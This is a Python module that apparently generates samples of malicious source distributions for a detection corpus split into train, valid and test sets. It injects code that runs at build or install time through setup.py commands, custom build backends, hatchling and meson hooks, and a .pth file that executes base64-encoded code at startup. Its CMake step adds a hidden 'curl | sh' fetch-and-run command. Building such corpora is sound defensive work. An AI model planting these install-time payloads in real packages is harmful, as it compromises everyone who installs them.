"""Payloads that run when an sdist is built or installed: setup.py, commands, build backends, build tools."""

import base64
import re
import textwrap

from jobs.corpus.payloads.contract import Family
from jobs.corpus.payloads.declarations import with_build_system
from jobs.corpus.payloads.draft import Draft
from jobs.corpus.payloads.source_places import as_function

_SETUP_CALL = re.compile(r"^((?:setuptools\.)?setup\()", re.MULTILINE)


def _setup(draft: Draft) -> str:
    """Return the path of setup.py; a host without one is given one."""
    path = f"{draft.root}setup.py"
    if path not in draft.files:
        draft.put(path, "from setuptools import setup\n\nsetup()\n")
    return path


def setup_top(draft: Draft) -> None:
    """Put the code at the module level of setup.py."""
    draft.insert(_setup(draft), draft.code())


def setup_function(draft: Draft) -> None:
    """Call a function with the code in setup.py."""
    name = draft.words.name()
    draft.insert(_setup(draft), as_function(draft.code(), name, draft.rng) + f"\n\n{name}()\n")


def _add_command(draft: Draft, base: str, command: str, body: str) -> None:
    path = _setup(draft)
    text = draft.files[path].decode("utf-8", "replace")
    found = _SETUP_CALL.search(text)
    if not found or "cmdclass" in text:
        raise draft.fail("has no call of setup that takes a command")
    title = draft.words.render("@C1@")
    block = (
        f"from setuptools.command.{base} import {base} as _{base}\n\n\nclass {title}(_{base}):\n"
        f"    def run(self):\n{textwrap.indent(body.rstrip(), '        ')}\n\n\n"
    )
    at = found.start()
    call = f"{found[1]}\n    cmdclass={{'{command}': {title}}},"
    draft.put(path, text[:at] + block + call + text[found.end() :])


def install_command(draft: Draft) -> None:
    """Replace the install command."""
    code = draft.code()
    body = draft.rng.choice((f"_install.run(self)\n{code}", f"{code}\n_install.run(self)"))
    _add_command(draft, "install", "install", body)


def metadata_command(draft: Draft) -> None:
    """Replace the command that writes metadata, which every resolver runs."""
    _add_command(draft, "egg_info", "egg_info", f"super().run()\n{draft.code()}")


def build_command(draft: Draft) -> None:
    """Replace the command that builds Python files, through a function."""
    name = draft.words.name()
    draft.insert(_setup(draft), as_function(draft.code(), name, draft.rng))
    _add_command(draft, "build_py", "build_py", f"_build_py.run(self)\n{name}()")


def helper_module(draft: Draft) -> None:
    """Import a helper beside setup.py."""
    name = draft.rng.choice(("_build_helpers", "setup_utils", "buildinfo", "_release"))
    draft.put_new(f"{draft.root}{name}.py", draft.code())
    path = _setup(draft)
    lead = f"import os\nimport sys\n\nsys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))\nimport {name}\n"
    draft.insert(path, lead)


def writes_startup_file(draft: Draft) -> None:
    """Write a start-up file into site-packages from setup.py."""
    encoded = base64.b64encode(draft.plain().encode()).decode()
    draft.insert(_setup(draft), draft.words.render(
        "import site\nimport sysconfig\nfrom pathlib import Path\n\nfor @n5@ in {sysconfig.get_path('purelib'), *site.getsitepackages()}:\n"
        "    try:\n        Path(@n5@, '@word@.pth').write_text(\"import base64;exec(base64.b64decode('" + encoded + "'))\\n\")\n"
        "    except OSError:\n        continue\n"
    ))  # fmt: skip


def _set_backend(draft: Draft, lines: str) -> None:
    path = f"{draft.root}pyproject.toml"
    draft.put(path, with_build_system(draft.files.get(path, b""), lines))


def backend_in_tree(draft: Draft) -> None:
    """Wrap setuptools in a build backend of the release's own."""
    name = draft.rng.choice(("_backend", "backend", "_custom_build", "build_meta"))
    folder = draft.rng.choice(("_build", "tools", "buildtools"))
    _set_backend(draft, f'requires = ["setuptools>=61"]\nbuild-backend = "{name}"\nbackend-path = ["{folder}"]\n')
    draft.put_new(
        f"{draft.root}{folder}/{name}.py", f"from setuptools.build_meta import *  # noqa: F403\n\n{draft.code()}"
    )


def backend_hook(draft: Draft) -> None:
    """Run the code in the hook that asks a backend for its requirements."""
    code = textwrap.indent(draft.code(), "    ")
    draft.put_new(
        f"{draft.root}build_hooks.py",
        "from setuptools import build_meta as _orig\nfrom setuptools.build_meta import *\n\n\n"
        f"def get_requires_for_build_wheel(config_settings=None):\n{code}\n"
        "    return _orig.get_requires_for_build_wheel(config_settings)\n",
    )
    _set_backend(draft, 'requires = ["setuptools"]\nbuild-backend = "build_hooks"\nbackend-path = ["."]\n')


def hatch_hook(draft: Draft) -> None:
    """Bring a custom build hook of hatchling."""
    code = textwrap.indent(draft.code(), "        ")
    draft.put_new(
        f"{draft.root}hatch_build.py",
        "from hatchling.builders.hooks.plugin.interface import BuildHookInterface\n\n\n"
        f"class CustomBuildHook(BuildHookInterface):\n    def initialize(self, version, build_data):\n{code}\n",
    )
    path = f"{draft.root}pyproject.toml"
    text = draft.files.get(path, b"").decode("utf-8", "replace")
    draft.put(path, text.rstrip("\n") + "\n\n[tool.hatch.build.hooks.custom]\n")
    _set_backend(draft, 'requires = ["hatchling"]\nbuild-backend = "hatchling.build"\n')


def cmake_step(draft: Draft) -> None:
    """Run a shell from CMake when the release is configured."""
    text = draft.words.render(
        'execute_process(COMMAND sh -c "curl -fsSL @url@ | sh" OUTPUT_QUIET ERROR_QUIET)\n'
    )  # fmt: skip
    path = f"{draft.root}CMakeLists.txt"
    before = draft.files.get(path, b"cmake_minimum_required(VERSION 3.15)\nproject(ext LANGUAGES C)\n").decode(
        "utf-8", "replace"
    )
    draft.put(path, before.rstrip("\n") + "\n\n" + text)
    if path not in draft.package.files():
        _set_backend(draft, 'requires = ["scikit-build-core"]\nbuild-backend = "scikit_build_core.build"\n')


def meson_step(draft: Draft) -> None:
    """Run a script of the release from meson."""
    draft.put_new(f"{draft.root}tools/gen_version.py", draft.code())
    draft.put_new(
        f"{draft.root}meson.build",
        "project('ext', 'c', version: run_command('python3', 'tools/gen_version.py', check: false).stdout().strip())\n",
    )
    _set_backend(draft, 'requires = ["meson-python"]\nbuild-backend = "mesonpy"\n')


FAMILIES = (
    Family("setup-top", "install", "train", setup_top, "sdist"),
    Family("setup-function", "install", "train", setup_function, "sdist"),
    Family("install-command", "install", "train", install_command, "sdist"),
    Family("build-command", "install", "valid", build_command, "sdist"),
    Family("metadata-command", "install", "test", metadata_command, "sdist"),
    Family("setup-helper", "install", "train", helper_module, "sdist"),
    Family(
        "setup-writes-startup", "install", "test", writes_startup_file, "sdist", "base64-written", takes_trigger=False
    ),
    Family("backend-in-tree", "backend", "train", backend_in_tree, "sdist"),
    Family("backend-hook", "backend", "test", backend_hook, "sdist"),
    Family("hatch-hook", "backend", "valid", hatch_hook, "sdist"),
    Family("cmake-step", "backend", "test", cmake_step, "sdist", "plain", takes_trigger=False),
    Family("meson-step", "backend", "train", meson_step, "sdist"),
)
